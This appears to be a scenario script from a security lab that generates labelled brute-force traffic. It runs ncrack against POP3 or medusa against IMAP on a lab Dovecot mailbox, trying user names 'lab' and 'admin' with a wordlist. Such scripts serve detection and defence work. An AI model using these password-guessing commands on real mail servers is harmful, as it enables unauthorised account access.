# SPDX-License-Identifier: MIT
# label: bruteforce-other
# source: lab-ncrack
# needs: ncrack medusa dovecot
# seconds: 60
# Passwords for a mailbox by other tools.
. $lab/victims.sh

servers() {
	victim_mail d
	words_up 80
}

scenario() {
	_tool=$(choose ncrack medusa)
	setting options "$_tool"
	if [ "$_tool" = ncrack ]; then
		attack z d tcp 110 -- timeout 50 ncrack --user lab,admin -P "$work/words" \
			-p pop3:110 \
			"$(addr d)"
	else
		attack z d tcp 143 -- timeout 50 medusa -h "$(addr d)" -u lab -P "$work/words" \
			-M imap \
			-t "$(choose 1 3)"
	fi
}
